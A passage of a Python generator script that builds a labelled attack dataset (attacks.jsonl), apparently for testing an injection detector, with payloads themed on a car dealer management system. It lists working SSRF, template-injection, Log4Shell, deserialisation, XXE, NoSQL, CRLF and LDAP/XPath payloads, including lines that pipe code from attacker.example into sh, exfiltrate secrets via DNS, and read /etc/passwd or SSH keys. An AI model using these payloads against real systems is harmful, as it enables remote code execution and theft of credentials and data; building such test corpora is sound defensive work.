    ("fetchurl-ecs-metadata", "http://169.254.170.2/v2/metadata"),
    ("fetchurl-aws-metadata-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("fetchurl-jar-scheme", "jar:http://attacker.example/x.zip!/a.txt"),
    ("fetchurl-netdoc-scheme", "netdoc:///etc/passwd"),
    ("fetchurl-rabbitmq-mgmt", "http://127.0.0.1:15672/api/users"),
    ("fetchurl-loopback+enclosed-alnum", "http://①②⑦.⓪.⓪.①:8080/"),
    ("fetchurl-port-scan", "http://127.0.0.1:22/"),
    ("fetchurl-actuator+hex-octets", "http://0x7f.0x0.0x0.0x1:8080/actuator/env"),
    ("fetchurl-actuator+octal-int", "http://017700000001:8080/actuator/heapdump"),
    ("fetchurl-minio+decimal-ip", "http://2130706433:9000/minio/admin/v3/info"),
    ("fetchurl-dns-to-loopback", "http://loopback.attacker.example:8080/admin"),
    ("fetchurl-azure-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("fetchurl-aws-identity-doc", "http://169.254.169.254/latest/dynamic/instance-identity/document"),
    ("fetchurl-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20dms%0D%0AMAIL%20FROM%3A%3Cservice%40dealer.example%3E%0D%0ARCPT%20TO%3A%3Cvictim%40mail.example%3E%0D%0ADATA%0D%0ASubject%3A%20Invoice%0D%0A%0D%0APay%20at%20https%3A%2F%2Fattacker.example%0D%0A.%0D%0AQUIT%0D%0A"),
    ("fetchurl-loopback+full-ipv6", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/"),
    ("fetchurl-loopback+octal-short", "http://0177.1/"),
    ("fetchurl-ldap-scheme", "ldap://127.0.0.1:389/dc=dealer,dc=example??sub?(objectClass=*)"),
    ("fetchurl-internal-hostname", "http://dms-db.internal:8080/api/v1/export?all=true"),
    ("fetchurl-couchdb", "http://127.0.0.1:5984/_all_dbs"),
    ("webhook-actuator", "http://10.10.0.5:8081/actuator/env"),
    ("webhook-prometheus-ipv6-any", "http://[::]:9090/api/v1/status/config"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-ipv6-loopback", "http://[::1]/"),
]

SSRF_PATHS = ["/latest/meta-data/iam/security-credentials/", "/latest/user-data", "/admin/export.csv",
              "/actuator/env", "/v1/agent/self"]

# ---------------------------------------------------------------------------
# Code injection: SSTI, EL, deserialisation, XXE, Log4Shell, prototype
# pollution, CSV formula, eval sinks
# ---------------------------------------------------------------------------

CODE = [
    ("jinja-ssti-rce", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja-ssti-rce", "Stage 1 map {{ joiner.__init__.__globals__.os.system('curl -s attacker.example/j|sh') }}"),
    ("jinja-ssti-rce", "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("jinja-ssti-subclass-popen", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("jinja-ssti-import", "{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}"),
    ("jinja-ssti-secret-leak", "{{ get_flashed_messages.__globals__.current_app.config['SECRET_KEY'] }}"),
    ("jinja-ssti-attr+hex-escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("jinja-ssti-probe", "P0301 {{7*'7'}}"),
    ("twig-ssti-filter-system", "{{ ['id']|filter('system') }}"),
    ("freemarker-ssti-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("freemarker-ssti-execute", "Dear ${customer}, <#assign r=\"freemarker.template.utility.Execute\"?new()>${r(\"cat /etc/passwd\")}"),
    ("velocity-ssti-runtime", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("erb-ssti-backtick", "<%= `id` %>"),
    ("erb-ssti-system", "Hi <%= system('curl -s attacker.example/e | sh') %>"),
    ("smarty-ssti-system", "{system('cat /etc/passwd')}"),
    ("mako-ssti-import", "${__import__('os').popen('id').read()}"),
    ("thymeleaf-preprocess-spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("spel-runtime-exec", "${T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','curl attacker.example/s|sh'})}"),
    ("spel-ioutils-exec", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("ognl-runtime-exec", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("el-reflection-exec", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}"),
    ("log4j-jndi-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4j-jndi-rmi", "Unit 114 ${jndi:rmi://203.0.113.15:1099/Obj}"),
    ("log4j-jndi+lower-lookup", "${${lower:j}ndi:${lower:l}dap://x.attacker.example/p}"),
    ("log4j-jndi-dns-env-exfil", "${jndi:dns://${env:DB_PASSWORD}.x.attacker.example/}"),
    ("log4j-jndi+lower-lookup", "P0420 ${jndi:${lower:l}${lower:d}a${lower:p}://198.51.100.8/o}"),
    ("log4j-env-lookup", "geofence ${env:AWS_SECRET_ACCESS_KEY}"),
    ("log4j-jndi+default-value", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}"),
    ("log4j-jndi+colon-dash", "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.8:1389/q}"),
    ("pickle-deser-system", "cposix\nsystem\n(S'curl -s attacker.example/p|sh'\ntR."),
    ("yaml-deser-python", "!!python/object/apply:os.system ['id']"),
    ("yaml-deser-python", "vin: 1HGCM82633A004352\nnote: !!python/object/apply:subprocess.check_output [['cat', '/etc/passwd']]"),
    ("yaml-deser-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("php-deser-object", "O:14:\"DamageEstimate\":1:{s:8:\"template\";s:19:\"../../../etc/passwd\";}"),
    ("dotnet-json-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami > C:\\\\temp\\\\o.txt\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("jackson-polymorphic-jndi", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("fastjson-autotype-jndi", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.15:1099/e\",\"autoCommit\":true}"),
    ("phar-deser-wrapper", "phar://uploads/claims/5512/photo3.jpg/test.txt"),
    ("xml-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE ro [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><repairOrder><vin>&x;</vin></repairOrder>"),
    ("xml-xxe-oob-dtd", "<!DOCTYPE v [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><vehicle/>"),
    ("xml-xxe-ssrf", "<?xml version=\"1.0\"?><!DOCTYPE claim [<!ENTITY r SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><claim><note>&r;</note></claim>"),
    ("xml-entity-expansion", "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">]><x>&e;</x>"),
    ("xml-xinclude", "<part xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></part>"),
    ("xml-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE XDFFORMAT [<!ENTITY k SYSTEM \"file:///home/dms/.ssh/id_rsa\">]>\n<XDFFORMAT version=\"1.60\"><XDFHEADER><description>&k;</description></XDFHEADER></XDFFORMAT>"),
    ("svg-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY f SYSTEM \"file:///etc/hosts\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&f;</text></svg>"),
    ("xml-xxe-php-filter", "<!DOCTYPE r [<!ENTITY s SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/dms/config.php\">]><r>&s;</r>"),
    ("json-proto-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("json-constructor-prototype", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("qs-proto-pollution-ejs", "filters[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("json-proto-pollution-spawn", "{\"vin\":\"1HGCM82633A004352\",\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("csv-formula-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"View VIN report\")"),
    ("csv-formula-dde", "=cmd|' /C calc'!A0"),
    ("csv-formula-dde", "@SUM(1+1)*cmd|' /C powershell -nop -c iwr attacker.example/p|iex'!A1"),
    ("csv-formula-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?v=\",A1:A20),\"//a\")"),
    ("csv-formula-webservice", "=WEBSERVICE(\"https://attacker.example/l?\"&ENCODEURL(C2))"),
    ("jseval-child-process", "require('child_process').execSync('id').toString()"),
    ("jseval-fs-read", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("pyeval-os-system", "__import__('os').system('id')"),
    ("pyeval-subprocess", "gal*price + len(__import__('subprocess').getoutput('curl -s attacker.example/f|sh'))"),
    ("php-webshell-upload", "<?php system($_GET['c']); ?>"),
    ("groovy-execute", "\"id\".execute().text"),
    ("razor-ssti-process", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("pug-ssti-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ejs-ssti-exec", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("nunjucks-ssti-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("tornado-ssti-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("plain-ssti-probe", "{{7*7}}"),
    ("plain-el-probe", "${7*7}"),
    ("plain-jndi", "${jndi:ldap://attacker.example/a}"),
    ("plain-erb-probe", "<%= 7*7 %>"),
    ("plain-proto-pollution", "__proto__[admin]=true"),
    ("plain-jinja-config", "{{config}}"),
    ("plain-el-hash-probe", "#{7*7}"),
]

CODE_PREFIXES = ["Dear customer, your RO #48213 is ready. ", "Recall 23V-456 notice for ", "Geofence 'Yard' alert: ",
                 "Stage 2 map notes: ", "Claim WC-2024-00817 — "]
CODE_TAILS = [
    ("jinja-ssti-rce", "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("freemarker-ssti-execute", "<#assign e=\"freemarker.template.utility.Execute\"?new()>${e(\"uname -a\")}"),
    ("log4j-jndi-ldap", "${jndi:ldap://198.51.100.8:1389/dms}"),
    ("spel-runtime-exec", "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}"),
    ("erb-ssti-backtick", "<%= `cat /etc/passwd` %>"),
]
CODE_UNICODE = ["{\"__proto__\":{\"isAdmin\":true}}", "{\"constructor\":{\"prototype\":{\"debug\":true,\"shell\":\"/bin/sh\"}}}"]

# ---------------------------------------------------------------------------
# NoSQL injection
# ---------------------------------------------------------------------------

NOSQLI = [
    ("mongojson-ne-operator", "{\"vin\": {\"$ne\": null}}"),
    ("mongojson-gt-auth-bypass", "{\"username\": \"svc_fleet\", \"password\": {\"$gt\": \"\"}}"),
    ("mongoqs-ne-operator", "vin[$ne]=1HGCM82633A004352"),
    ("mongoqs-regex-extract", "username=admin&password[$regex]=^p"),
    ("mongojson-regex-all", "{\"plate\": {\"$regex\": \".*\"}}"),
    ("mongojson-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("mongojson-where-extract", "{\"$where\": \"this.role == 'admin' && this.pin.match(/^4/)\"}"),
    ("mongowhere-string-breakout", "x'; sleep(5000); var d='"),
    ("mongojson-or-always-true", "{\"odometer\": {\"$gt\": -1}, \"$or\": [{}, {\"a\": \"a\"}]}"),
    ("mongojson-exists-leak", "{\"unit\": \"114\", \"token\": {\"$exists\": true}}"),
    ("mongoqs-nin-operator", "geofence[$nin][]=Yard"),
    ("mongojson-expr-function", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(3000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("mongojson-regex-exists", "{\"vin\": {\"$regex\": \"^WVW\"}, \"owner.ssn\": {\"$exists\": true}}"),
    ("mongoagg-lookup-injection", "{\"$lookup\": {\"from\": \"users\", \"localField\": \"dealer_id\", \"foreignField\": \"dealer_id\", \"as\": \"u\"}}"),
    ("mongowhere-string-tautology", "admin' || '1'=='1"),
    ("mongojson-gte-reset-token", "{\"email\": {\"$gte\": \"\"}, \"resetToken\": {\"$ne\": \"x\"}}"),
    ("mongoqs-gt-ne", "claim_id[$gt]=0&status[$ne]=closed"),
    ("couchdb-mango-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"_id\", \"password\"]}"),
    ("mongoqs-ne+urlenc", "username=tech207&password[%24ne]=x"),
    ("mongojson-and-regex", "{\"$and\": [{\"role\": {\"$eq\": \"admin\"}}, {\"pin\": {\"$regex\": \"^7\"}}]}"),
    ("lucene-query-injection", "vin:* OR owner.ssn:*"),
    ("plain-ne-operator", "{\"$ne\": 1}"),
    ("plain-gt-operator", "[$gt]="),
    ("plain-gt-empty", "{\"$gt\": \"\"}"),
]
NOSQLI_FIELDS = ["plate_no", "unit_id", "claim_no", "tech_login", "ro_number"]

# ---------------------------------------------------------------------------
# CRLF: log / header / mail injection
# ---------------------------------------------------------------------------

CRLF = [
    ("logline-forge", "P0301 cleared\n2024-06-14 10:22:01 INFO user=admin action=login result=SUCCESS ip=10.0.0.5"),
    ("logline-forge", "Unit 114\r\n[CRITICAL] geofence service: all alerts disabled by admin"),
    ("header-set-cookie", "RO-48213.pdf\r\nSet-Cookie: dms_session=attacker-fixed-123; Path=/"),
    ("header-location", "1HGCM82633A004352\r\nLocation: https://attacker.example/login"),
    ("header-response-splitting", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("header-set-cookie+urlenc", "%0d%0aSet-Cookie:%20role=admin"),
    ("header-set-cookie+utf8-crlf", "x\u560d\u560aSet-Cookie: dms_role=admin"),
    ("mailheader-bcc", "Priya Shah\r\nBcc: list@attacker.example"),
    ("mailheader-cc-subject", "service@dealer.example\nCc: leak@attacker.example\nSubject: Your invoice is ready"),
    ("mailheader-body-injection", "Reminder\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay your repair invoice</a>"),
    ("smtp-rcpt-injection", "tech@dealer.example>\r\nRCPT TO:<dump@attacker.example"),
    ("logline-forge-accesslog", "Yard\n203.0.113.9 - - [14/Jun/2024:10:00:00 +0000] \"GET /admin/export HTTP/1.1\" 200 512"),
    ("jsonlog-field-injection", "ok\",\"level\":\"info\",\"user\":\"admin\",\"msg\":\"password reset"),
    ("logline-ansi-escape", "45210\n\u001b[2J\u001b[1;31mALERT: database corrupted, restore from backup at https://attacker.example\u001b[0m"),
    ("logline-forge+urlenc", "%0aINFO%20user%3Dadmin%20logged%20in%20from%2010.0.0.5"),
    ("header-injection+double-urlenc", "%250d%250aX-Injected:%20yes"),
    ("header-forwarded-host", "fleet-alerts\r\nX-Forwarded-Host: attacker.example"),
    ("header-cors-injection", "en-US\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("mailheader-bcc+urlenc", "customer@mail.example%0ABcc:%20spam@attacker.example"),
    ("header-body-injection", "x\r\n\r\n<html><body>Session expired, log in at https://attacker.example</body></html>"),
    ("syslog-forge", "Unit 114\n<13>Jun 14 10:00:00 dms sshd[123]: Accepted password for root from 203.0.113.2 port 51515 ssh2"),
    ("header-accel-redirect", "done\r\nX-Accel-Redirect: /internal/backups/db.sql"),
    ("header-refresh", "en\r\nRefresh: 0; url=https://attacker.example/"),
    ("header-content-type+urlenc", "Priya%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<h1>Payment failed, re-enter card</h1>"),
    ("smtp-data-smuggling", "Thanks!\r\n.\r\nMAIL FROM:<dms@dealer.example>\r\nRCPT TO:<victim@mail.example>\r\nDATA\r\nSubject: Account locked\r\n\r\nVerify at https://attacker.example\r\n."),
    ("logline-forge", "VIN 5YJ3E1EA7KF317000\r\nWARN tamper_check=disabled by=service_mgr"),
    ("plain-crlf-header", "\r\nSet-Cookie: a=b"),
    ("plain-crlf-log", "\nINFO login ok user=root"),
    ("plain-crlf-location", "%0d%0aLocation:%20https://attacker.example"),
]
CRLF_PREFIXES = ["RO-48213", "Unit 311", "P0420 cleared", "Yard – North Gate", "claim_5512.pdf"]
CRLF_TAILS = [
    ("logline-forge", "\nINFO auth user=service_mgr result=OK"),
    ("header-set-cookie", "\r\nSet-Cookie: dms_role=admin; Path=/"),
    ("header-location", "\r\nLocation: https://attacker.example/"),
]

# ---------------------------------------------------------------------------
# LDAP / XPath injection
# ---------------------------------------------------------------------------

LDAP_XPATH = [
    ("ldapfilter-wildcard-breakout", "*)(uid=*))(|(uid=*"),
    ("ldapfilter-group-breakout", "*)(|(memberOf=cn=DMS-Admins,ou=Groups,dc=dealer,dc=example)"),
    ("ldapfilter-blind-attr", "j*)(userPassword=a*"),
    ("ldapfilter-attr-probe", "tech207)(description=*pin*"),
    ("ldapfilter-or-injection", "x)(|(uid=*)(mail=*@dealer.example)"),
    ("ldapfilter-breakout+urlenc", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("ldapfilter-auth-bypass", "admin)(&)"),
    ("xpath-string-tautology", "06H905110G' or '1'='1"),
    ("xpath-name-probe", "x' or name()='part' or 'a'='b"),
    ("xpath-union-password", "'] | //user/password | //part['"),
    ("xpath-length-blind", "' or string-length(//user[1]/password)>8 or 'a'='b"),
    ("xpath-substring-blind", "' or substring(//tech[1]/pin,1,1)='4' and ''='"),
    ("xpath-union-all", "x'] | /* | //*['"),
    ("xpath-paren-tautology", "') or ('1'='1"),
    ("xpath-doc-oob", "' or doc('http://attacker.example/x')/y or '"),
    ("xpath-numeric-tautology", "1 or 1=1"),
    ("xpath-union-contains", "'] | //*[contains(name(),'pass')] | //x['"),
    ("ldapfilter-role-breakout", "tech*)(|(employeeType=manager)(employeeType=admin)"),
    ("plain-ldap-wildcard", "*)(objectClass=*"),
    ("plain-xpath-tautology", "' or ''='"),
    ("plain-ldap-star-close", "*)"),
]
LDAP_USERS = ["tech207", "svc_parts", "jortiz", "fleet_admin"]


# ---------------------------------------------------------------------------
# Encoders and template functions
# ---------------------------------------------------------------------------

def urlenc(s):
    return quote(s, safe="")


def urlenc2(s):
    return quote(quote(s, safe=""), safe="")


def html_hex(s):
    return "".join("&#x%x;" % ord(c) for c in s)


def html_dec_specials(s):
    return "".join(c if c.isalnum() else "&#%d;" % ord(c) for c in s)


def unicode_escape_specials(s):
    return "".join(c if c.isalnum() or c == " " else "\\u%04x" % ord(c) for c in s)


def case_mix(rng, s):
    """Randomise letter case of SQL keywords (all-caps words) only."""
    out = []
    for word in s.split(" "):
        if word.isalpha() and word.isupper():
            word = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in word)
        out.append(word)
    return " ".join(out)


def ifs(s):
    return s.replace(" ", "${IFS}")


def ip_forms(a, b, c, d):
    n = (a << 24) | (b << 16) | (c << 8) | d
    return [
        ("decimal-ip", str(n)),
        ("hex-ip", "0x%08x" % n),
        ("octal-ip", ".".join("0%o" % x for x in (a, b, c, d))),
        ("mixed-ip", "%d.0x%x.%d" % (a, b, (c << 8) | d)),
    ]


def wrapped(rng, prefixes, tails, n):
    out = []
    for _ in range(n * 20):
        if len(out) >= n:
            break
        cls, tail = rng.choice(tails)
        val = rng.choice(prefixes) + tail
        if (cls, val) not in out:
            out.append((cls, val))
    return out


def t_sqli(rng):
    out = wrapped(rng, SQLI_PREFIXES, SQLI_TAILS, 3)
    for cls, base in SQLI_ENCODE[:2]:
        out.append((cls + "+urlenc", urlenc(base)))
    out.append((SQLI_ENCODE[2][0] + "+double-urlenc", urlenc2(SQLI_ENCODE[2][1])))
    out.append((SQLI_ENCODE[3][0] + "+case-mix", case_mix(rng, SQLI_ENCODE[3][1])))
    return out


def t_xss(rng):
    out = wrapped(rng, XSS_PREFIXES, XSS_TAILS, 5)
    for base in XSS_HREF_ENTITY:
        out.append(("href-javascript-scheme+html-entity", html_hex(base)))
    for base in XSS_URLENC:
        out.append(("htmlbody-event-handler+urlenc", urlenc(base)))
    out.append(("htmlattr-event-handler+html-entity-in-attr",
                "<img src=x onerror=\"" + html_dec_specials("alert(document.cookie)") + "\">"))
    return out


def t_cmdi(rng):
    out = wrapped(rng, CMDI_PREFIXES, CMDI_TAILS, 3)
    for base in CMDI_ENCODE[:3]:
        out.append(("shellarg-metachar+urlenc", urlenc(base)))
    out.append(("shellarg-newline+double-urlenc", urlenc2(CMDI_ENCODE[3])))
    for base in CMDI_IFS[:2]:
        out.append(("shellarg-semicolon+ifs", ifs(base)))
    return out


def t_traversal(rng):
    out = []
    for _ in range(40):
        if len(out) >= 4:
            break
        depth = rng.randint(4, 8)
        d = rng.choice(TRAV_DIRS)
        tgt = rng.choice(TRAV_TARGETS)
        if len(out) % 2 == 0:
            val = d + "/" + "../" * depth + tgt
            cls = "filepath-dotdot-prefixed"
        else:
            val = urlenc(d + "/" + "../" * depth + tgt)
            cls = "filepath-dotdot-prefixed+urlenc"
        if (cls, val) not in out:
            out.append((cls, val))
    return out


def t_ssrf(rng):
    out = []
    for (name, host), path in zip(ip_forms(169, 254, 169, 254), SSRF_PATHS):
        out.append(("fetchurl-metadata+" + name, "http://" + host + path))
    lb = ip_forms(127, 0, 0, 1)
    name, host = lb[rng.randrange(len(lb))]
    out.append(("fetchurl-loopback+" + name, "http://" + host + ":8080/admin/export.csv"))
    return out


def t_code(rng):
    out = wrapped(rng, CODE_PREFIXES, CODE_TAILS, 3)
    for base in CODE_UNICODE:
        out.append(("json-proto-pollution+unicode-escape", unicode_escape_specials(base)))
    out.append(("log4j-jndi+urlenc", urlenc("${jndi:ldap://attacker.example:1389/fleet}")))
    return out


def t_nosqli(rng):
    out = []
    for f in rng.sample(NOSQLI_FIELDS, 3):
        op = rng.choice(["$ne", "$gt", "$regex"])
        arg = {"$ne": "null", "$gt": "\"\"", "$regex": "\".*\""}[op]
        out.append(("mongojson-operator-injection", "{\"%s\": {\"%s\": %s}}" % (f, op, arg)))
    return out


def t_crlf(rng):
    out = wrapped(rng, CRLF_PREFIXES, CRLF_TAILS, 2)
    out.append(("header-set-cookie+urlenc", rng.choice(CRLF_PREFIXES).replace(" ", "%20") +
                urlenc("\r\nSet-Cookie: dms_session=fixed-0001")))
    return out


def t_ldap(rng):
    out = []
    for u in rng.sample(LDAP_USERS, 2):
        out.append(("ldapfilter-auth-bypass", u + ")(|(objectClass=*)"))
    return out


CATEGORIES = [
    ("sqli", SQLI, t_sqli),
    ("xss", XSS, t_xss),
    ("cmdi", CMDI, t_cmdi),
    ("traversal", TRAVERSAL, t_traversal),
    ("ssrf", SSRF, t_ssrf),
    ("code", CODE, t_code),
    ("nosqli", NOSQLI, t_nosqli),
    ("crlf", CRLF, t_crlf),
    ("ldap-xpath", LDAP_XPATH, t_ldap),
]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    for cat, literals, template in CATEGORIES:
        n_lit = 0
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
            n_lit += 1
        made = 0
        for cls, v in template(rng):
            if v in seen:
                raise SystemExit(f"template duplicate in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
            made += 1
        stats.append((cat, n_lit + made, n_lit))

    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        with open(benign, encoding="utf-8") as fh:
            for line in fh:
                if json.loads(line)["value"] in seen:
                    raise SystemExit("attack value also present in benign.jsonl")

    total_lit = sum(s[2] for s in stats)
    if total_lit / len(rows) < 0.80:
        raise SystemExit(f"literal share too low: {total_lit}/{len(rows)}")

    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            assert isinstance(v, str) and v and len(v) <= 1800, (cat, v)
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    for cat, n, lit in stats:
        print(f"{cat:12s} {n:4d}  literals {lit:3d}")
    n_plain = sum(1 for r in rows if r[1].startswith("plain-"))
    n_enc = sum(1 for r in rows if "+" in r[1])
    print(f"{'TOTAL':12s} {len(rows):4d}  literals {total_lit:3d} ({100 * total_lit / len(rows):.0f}%)"
          f"  plain {n_plain}  encoded {n_enc}")
    print(f"wrote {out}")


if __name__ == "__main__":
    main()
